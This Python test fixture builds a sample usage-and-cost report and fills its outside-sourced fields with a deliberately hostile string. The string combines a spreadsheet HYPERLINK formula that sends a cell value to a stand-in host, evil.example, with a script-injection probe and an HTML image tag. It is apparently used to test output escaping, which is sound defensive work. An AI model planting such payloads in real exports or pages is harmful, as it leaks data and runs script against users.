"""A report made up by hand, with something hostile in every text that comes from outside."""

from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

from fleetpulse.query.periods import Kind, current
from fleetpulse.query.report import (
    AlertCount,
    AlertLine,
    Alerts,
    BudgetLine,
    Change,
    Changes,
    CorrectionLine,
    Corrections,
    Coverage,
    Errors,
    Figures,
    ModelGroup,
    Point,
    Previous,
    Report,
    Series,
    SourceGroup,
    StatusCount,
    TopError,
    UnpricedLine,
)
from fleetpulse.query.windows import Window

ZONE = ZoneInfo("Europe/Berlin")
NOW = datetime(2025, 5, 12, 14, 5, tzinfo=ZONE)
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")|<script>alert(1)</script><img src=x>*b*'
SHARES = (("telegram", 0.5), ("微信", 0.3), (HOSTILE, 0.2))
MODELS = (("gpt-4o", 0.9), ("none", 0.1))


def figures(requests: int, errors: int, cost: float, unpriced: int = 0) -> dict[str, float | None]:
    return {
        "total_requests": requests,
        "failed_requests": errors,
        "success_rate": (requests - errors) / requests if requests else None,
        "avg_execution_time": 1.25 if requests else None,
        "total_tokens": requests * 500,
        "total_cost": cost,
        "unpriced_requests": unpriced,
    }


def covered(start: datetime, end: datetime) -> Coverage:
    return Coverage(start=start, end=end, complete=True, gaps=[])


def sample(kind: Kind = "daily", *, complete: bool = False) -> Report:
    """Of the period that holds NOW, up to then, or of the one before it."""
    period = current(kind, NOW, ZONE)
    now = NOW
    if complete:
        period = period.before()
        now = period.end + timedelta(hours=8)
    window = Window(period.start, period.end if complete else now)
    starts = (window.hours() if kind == "daily" else window.days())[:-1]
    points = [point(place, start, hour=kind == "daily") for place, start in enumerate(starts)]
    requests, errors = sum(each.requests for each in points), sum(each.errors for each in points)
    cost = sum(each.cost for each in points)
    before = period.before()
    totals = Figures.model_validate(figures(requests, errors, cost, 3))
    was = Figures.model_validate(figures(requests // 2, errors * 2, cost * 2))
    compared = Window(before.start, before.end if complete else before.same_part(now))
    return Report(
        report=kind,
        generated_at=now,
        timezone=ZONE.key,
        source=None,
        first_day=period.first,
        last_day=period.last,
        start=period.start,
        end=period.end,
        complete=complete,
        covered=covered(window.start, window.end),
        totals=totals,
        previous=Previous(
            start=compared.start,
            end=compared.end,
            partial=not complete,
            covered=covered(compared.start, compared.end),
            totals=was,
            changes=Changes.model_validate({name: change(totals, was, name) for name in Changes.model_fields}),
        ),
        by_source=[
            SourceGroup.model_validate({"source": name} | share(requests, errors, cost, part))
            for name, part in SHARES
        ],
        by_model=[
            ModelGroup.model_validate({"model": name} | share(requests, errors, cost, part))
            for name, part in MODELS
        ],
        by_status=[
            StatusCount(status="success", requests=requests - errors),
            StatusCount(status=HOSTILE, requests=errors),
        ],
        series=Series(step="hour" if kind == "daily" else "day", points=points),
        errors=Errors(
            total=errors,
            top=[
                TopError(status="timeout", error="upstream took 30.2 s", requests=5, texts=4),
                TopError(status="error", error=HOSTILE, requests=2, texts=1),
            ],
            others=errors - 7,
        ),
        unpriced=[UnpricedLine(model="mystery-1", requests=3)],
        corrections=Corrections(
            total=60,
            cost=-0.75,
            items=[CorrectionLine(made_at=now, source="telegram", model="mystery-1", requests=4, cost=-0.75)],
        ),
        budgets=[
            BudgetLine(
                name="daily",
                scope="total",
                target="",
                period="day",
                start=period.start,
                limit=10,
                spent=12.5,
                used=1.25,
                state="exceeded",
                periods=1,
                exceeded=1,
            ),
            BudgetLine(
                name="bots",
                scope="user",
                target=HOSTILE,
                period="month",
                start=period.start,
                limit=300,
                spent=120,
                used=0.4,
                state="unknown",
                periods=0,
                exceeded=0,
            ),
        ],
        alerts=Alerts(
            total=2,
            by_name=[AlertCount(alertname="BudgetAt80Percent", severity="warning", times=2)],
            items=[
                AlertLine(
                    alertname="BudgetAt80Percent", severity="warning", summary=HOSTILE, starts_at=now, ends_at=None
                ),
                AlertLine(
                    alertname="BudgetAt80Percent", severity="warning", summary="again", starts_at=now, ends_at=now
                ),
            ],
        ),
    )


def point(place: int, start: datetime, *, hour: bool) -> Point:
    requests = 100 + 37 * place
    return Point(
        start=start,
        local=start.isoformat(timespec="minutes") if hour else start.date().isoformat(),
        requests=requests,
        errors=place + 8,
        tokens=requests * 500,
        cost=requests * 0.0041,
    )


def share(requests: int, errors: int, cost: float, part: float) -> dict[str, float | None]:
    own = figures(round(requests * part), round(errors * part), cost * part)
    return own | {"previous_total_requests": 7, "previous_total_cost": cost * part * 2}


def change(now: Figures, was: Figures, name: str) -> Change:
    after, before = getattr(now, name), getattr(was, name)
    return Change(absolute=after - before, ratio=(after - before) / before)
